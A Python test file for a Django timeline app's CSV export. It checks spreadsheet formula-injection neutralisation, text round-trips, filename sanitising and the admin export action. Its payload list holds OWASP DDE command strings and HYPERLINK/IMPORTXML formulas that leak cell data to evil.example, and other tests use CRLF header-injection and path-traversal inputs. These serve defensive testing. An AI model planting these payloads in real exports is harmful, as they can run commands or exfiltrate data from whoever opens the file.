"""The CSV export is safe to open in a spreadsheet and keeps awkward text intact."""

import csv
import io
import subprocess
from datetime import date
from urllib.parse import urlencode

import pytest
from django.http import QueryDict, StreamingHttpResponse
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import SOFFICE
from tests.export_helpers import body, read_csv
from timeline.exports.csv_export import LINE_END, quoted
from timeline.exports.csv_safety import spreadsheet_safe
from timeline.exports.filenames import export_filename
from timeline.filter_words import file_words

# OWASP's CSV injection examples and the usual variants of them.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=10+20+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for details")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n-3+3+cmd|' /C calc'!D2",
    "\uff1d1+1",
]
TRIGGERS = tuple("=+-@\t\r\n\uff1d")


@pytest.mark.parametrize(
    "cell, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("a=1+1", "a=1+1"),
        ("'=already", "'=already"),
        ("", ""),
        ("Путин", "Путин"),
    ],
)
def test_spreadsheet_safe_prefixes_only_formula_triggers(cell, expected):
    assert spreadsheet_safe(cell) == expected


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_csv_export_neutralises_injection_payloads_in_every_text_column(
    client, make_actor, make_source, make_event, payload
):
    source = make_source(title=payload, url="https://example.org/a", text=payload)
    make_event(
        title=payload,
        summary=payload,
        location=payload,
        actors=[make_actor(payload, slug="payload")],
        sources=[(source, payload)],
    )
    (row,) = read_csv(client.get("/events.csv"))
    for column in ("title", "summary", "location", "actors", "sources"):
        assert row[column] == "'" + payload, column
    assert not any(cell.startswith(TRIGGERS) for cell in row.values())


def test_each_joined_name_is_neutralised_too(client, make_actor, make_event):
    make_event(actors=[make_actor("Xi Jinping"), make_actor("=HYPERLINK(1)", slug="evil")])
    (row,) = read_csv(client.get("/events.csv"))
    assert row["actors"] == "Xi Jinping; '=HYPERLINK(1)"


AWKWARD = [
    'She said "no", then "yes"',
    "Line one\nline two\r\nline three",
    "Сергей Лавров, Москва",
    "习近平在莫斯科",
    "20–22 March — talks; more talks",
    "trailing comma,",
    "'quoted with apostrophes'",
    "  leading and trailing spaces  ",
]


@pytest.mark.parametrize("text", AWKWARD)
def test_awkward_text_survives_a_round_trip_through_the_csv_reader(client, make_actor, make_event, text):
    make_event(title=text, summary=text, location=text, actors=[make_actor(text, slug="awkward")])
    (row,) = read_csv(client.get("/events.csv"))
    assert (row["title"], row["summary"], row["location"], row["actors"]) == (text, text, text, text)


def test_csv_url_column_holds_the_absolute_event_page_address(client, make_event, settings):
    settings.ALLOWED_HOSTS = ["chronicle.example"]
    make_event(slug="a-meeting")
    (row,) = read_csv(client.get("/events.csv", HTTP_HOST="chronicle.example"))
    assert row["url"] == "http://chronicle.example/events/a-meeting/"


def test_csv_lists_each_source_once_with_its_url(client, make_source, make_event):
    first = make_source(title="First", url="https://example.org/1", text="One. Two.")
    second = make_source(title="Second", url="", text="Three.")
    make_event(sources=[(first, "One."), (first, "Two."), (second, "Three.")])
    (row,) = read_csv(client.get("/events.csv"))
    assert (row["sources"], row["source_urls"]) == ("First; Second", "https://example.org/1")


# --- File names -------------------------------------------------------------

TODAY = date(2026, 11, 23)


@pytest.mark.parametrize(
    "filters, expected",
    [
        ({}, "timeline-20261123.csv"),
        ({"actor": ["xi-jinping"], "start": "2023"}, "timeline-xi-jinping-2023-20261123.csv"),
        (
            {"kind": ["call", "visit"], "start": "2023-03", "end": "2024"},
            "timeline-call-visit-2023-03-to-2024-20261123.csv",
        ),
        ({"q": 'gas "pipeline"/../../etc', "source": 7}, "timeline-gas-pipeline-etc-source-7-20261123.csv"),
        ({"location": "Москва"}, "timeline-20261123.csv"),
        (
            {"actor": ["xi-jinping", "vladimir-putin"], "actors_match": "all", "kind": ["call"]},
            "timeline-xi-jinping-vladimir-putin-together-call-20261123.csv",
        ),
        (
            {"actor": ["xi-jinping", "vladimir-putin"], "actors_match": "any"},
            "timeline-xi-jinping-vladimir-putin-20261123.csv",
        ),
        ({"actor": ["xi-jinping"], "actors_match": "all"}, "timeline-xi-jinping-20261123.csv"),
        ({"q": "x" * 500}, "timeline-" + "x" * 71 + "-20261123.csv"),
        ({"q": "\r\nContent-Type: text/html"}, "timeline-content-type-text-html-20261123.csv"),
    ],
)
def test_export_filename_is_built_from_the_filters_and_sanitised(filters, expected):
    params = QueryDict(urlencode(filters, doseq=True))
    assert export_filename(file_words(params), "csv", today=TODAY) == expected


def test_csv_download_name_never_carries_unsafe_characters(client, make_event):
    make_event()
    response = client.get('/events.csv?q=";/\\..\\evil&location=%0D%0ASet-Cookie:x')
    disposition = response["Content-Disposition"]
    name = disposition.removeprefix('attachment; filename="').removesuffix('"')
    assert disposition.startswith('attachment; filename="timeline-') and name.endswith(".csv")
    assert set(name) <= set("abcdefghijklmnopqrstuvwxyz0123456789-_.")


# --- The admin action ---------------------------------------------------------


def test_admin_exports_the_selected_events_as_csv_through_the_same_writer(admin_client, make_event):
    chosen = make_event(title="=Chosen", slug="chosen", date_start=date(2024, 5, 16))
    earlier = make_event(title="Earlier", slug="earlier", date_start=date(2022, 2, 4))
    make_event(title="Left out", slug="left-out")
    response = admin_client.post(
        "/admin/timeline/event/",
        {"action": "export_selected_as_csv", "_selected_action": [chosen.pk, earlier.pk]},
    )
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="timeline-selected-')
    rows = read_csv(response)
    assert [row["title"] for row in rows] == ["Earlier", "'=Chosen"]
    assert rows[1]["url"] == "http://testserver/events/chosen/"


# --- LibreOffice --------------------------------------------------------------


def through_libreoffice(csv_bytes: bytes, tmp_path) -> list[list[str]]:
    """Open a UTF-8 CSV in LibreOffice Calc and save it again as CSV: what Calc made of each cell."""
    tmp_path.mkdir(exist_ok=True)
    source = tmp_path / "export.csv"
    source.write_bytes(csv_bytes)
    utf8_comma = "44,34,76,1"
    assert SOFFICE, "LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui"
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            f"--infilter=CSV:{utf8_comma}",
            "--convert-to",
            f"csv:Text - txt - csv (StarCalc):{utf8_comma}",
            "--outdir",
            str(tmp_path / "out"),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    text = (tmp_path / "out" / "export.csv").read_text(encoding="utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.spreadsheet
def test_libreoffice_runs_no_formula_from_the_export_but_would_from_a_raw_cell(
    client, make_actor, make_event, tmp_path
):
    make_event(title="=1+1", summary="=2+2", actors=[make_actor("Xi Jinping")])
    exported = body(client.get("/events.csv"))
    raw = b"title,summary\r\n=1+1,=2+2\r\n"
    assert through_libreoffice(raw, tmp_path / "raw")[1] == ["2", "4"]  # the danger is real
    header, row = through_libreoffice(exported, tmp_path / "safe")
    cells = dict(zip(header, row, strict=True))
    assert (cells["title"], cells["summary"]) == ("'=1+1", "'=2+2")


@pytest.mark.spreadsheet
def test_awkward_text_survives_a_round_trip_through_libreoffice(client, make_actor, make_event, tmp_path):
    for n, text in enumerate(AWKWARD):
        make_event(title=text.strip(), summary=text, actors=[make_actor(f"Актёр {n} 习", slug=f"actor-{n}")])
    exported = body(client.get("/events.csv?bom=1"))
    expected = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
    # Calc stores a line break inside a cell as "\n", whichever break the file used.
    expected = [[cell.replace("\r\n", "\n") for cell in row] for row in expected]
    calc = through_libreoffice(exported, tmp_path)
    columns = [expected[0].index(name) for name in ("title", "summary", "actors", "sources", "url")]
    assert [[row[i] for i in columns] for row in calc] == [[row[i] for i in columns] for row in expected]


def test_admin_export_of_all_matching_events_follows_the_changelist_filter(admin_client, make_event):
    make_event(title="A call", kind="call", date_start=date(2023, 1, 5))
    make_event(title="A visit", kind="visit", date_start=date(2022, 1, 5))
    make_event(title="Another call", kind="call", date_start=date(2022, 6, 1))
    response = admin_client.post(
        "/admin/timeline/event/?kind__exact=call",
        {"action": "export_selected_as_csv", "select_across": "1", "_selected_action": ["0"]},
    )
    assert [row["title"] for row in read_csv(response)] == ["Another call", "A call"]


@given(st.lists(st.text(), min_size=1, max_size=6))
def test_quoted_cells_read_back_exactly_with_the_csv_module(cells):
    record = ",".join(quoted(cell) for cell in cells) + LINE_END
    assert next(csv.reader(io.StringIO(record, newline=""))) == cells
